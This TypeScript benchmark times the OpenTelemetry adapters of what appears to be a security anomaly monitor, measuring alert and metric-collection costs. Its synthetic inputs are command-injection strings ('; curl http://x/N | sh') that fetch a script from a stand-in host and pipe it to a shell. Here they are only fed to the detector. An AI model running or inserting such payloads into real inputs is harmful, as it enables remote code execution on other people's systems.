import { ExportResultCode } from '@opentelemetry/core';
import { BatchLogRecordProcessor, LoggerProvider, type LogRecordExporter } from '@opentelemetry/sdk-logs';
import { MeterProvider, MetricReader } from '@opentelemetry/sdk-metrics';
import { AnomalyMonitor, emitOtelAlertEvents, registerOtelMetrics } from '../src/index.js';
import { BoundedEventProcessor, EventLedger } from '../src/telemetry/otel-export-accounting.js';
import { median } from './stats.js';

/** Figures for the OpenTelemetry adapters; see the README's "Benchmark" section. */
export interface OtelBench {
  alertNsWithoutEvents: number;
  alertNsWithEvents: number;
  alertNsWhenQueueFull: number;
  metricsCollectMicros: number;
}

const ALERTS = 100_000;

class DiscardingExporter implements LogRecordExporter {
  export(_records: unknown[], done: (result: { code: ExportResultCode }) => void): void {
    done({ code: ExportResultCode.SUCCESS });
  }
  async forceFlush(): Promise<void> {}
  async shutdown(): Promise<void> {}
}

class PullReader extends MetricReader {
  protected override async onForceFlush(): Promise<void> {}
  protected override async onShutdown(): Promise<void> {}
}

/** ns per command-injection alert (each raises an alert), optionally exported as an OTel event. */
function alertCost(events: 'none' | 'queued' | 'queue-full'): number {
  const monitor = new AnomalyMonitor();
  let provider: LoggerProvider | undefined;
  if (events !== 'none') {
    // The pipeline startOtelExport builds, minus the network: the queue holds every alert, or none.
    const maxQueueSize = events === 'queued' ? ALERTS : 1;
    const ledger = new EventLedger();
    const batch = new BatchLogRecordProcessor({
      exporter: new DiscardingExporter(),
      maxQueueSize,
      maxExportBatchSize: Math.min(512, maxQueueSize),
      scheduledDelayMillis: 60_000,
    });
    provider = new LoggerProvider({ processors: [new BoundedEventProcessor(batch, ledger, maxQueueSize)] });
    emitOtelAlertEvents(monitor, provider);
  }
  const inputs = Array.from({ length: ALERTS }, (_, i) => `; curl http://x/${i} | sh`);
  const start = process.hrtime.bigint();
  for (let i = 0; i < ALERTS; i++) monitor.recordCommandInjection('203.0.113.9', inputs[i]!);
  const ns = Number(process.hrtime.bigint() - start) / ALERTS;
  void provider?.shutdown();
  return ns;
}

/** µs per metrics collection (one getStats() snapshot, 25 series) with 100,000 tracked addresses. */
async function collectCost(): Promise<number> {
  const monitor = new AnomalyMonitor();
  for (let i = 0; i < 100_000; i++)
    monitor.recordFailedAuth(`10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}`);
  const reader = new PullReader();
  const provider = new MeterProvider({ readers: [reader] });
  registerOtelMetrics(monitor, provider.getMeter('secmon'));
  const times: number[] = [];
  for (let i = 0; i < 200; i++) {
    const start = process.hrtime.bigint();
    await reader.collect();
    times.push(Number(process.hrtime.bigint() - start) / 1000);
  }
  await provider.shutdown();
  return median(times);
}

export async function benchOtel(log: (line: string) => void): Promise<OtelBench> {
  const without: number[] = [];
  const queued: number[] = [];
  const full: number[] = [];
  for (let run = 1; run <= 3; run++) {
    without.push(alertCost('none'));
    queued.push(alertCost('queued'));
    full.push(alertCost('queue-full'));
    await new Promise((resolve) => setImmediate(resolve));
    log(
      `otel run ${run}/3: alert ${without.at(-1)!.toFixed(0)} ns, with event ${queued.at(-1)!.toFixed(0)} ns, queue full ${full.at(-1)!.toFixed(0)} ns`,
    );
  }
  return {
    alertNsWithoutEvents: Math.round(median(without)),
    alertNsWithEvents: Math.round(median(queued)),
    alertNsWhenQueueFull: Math.round(median(full)),
    metricsCollectMicros: Number((await collectCost()).toFixed(1)),
  };
}
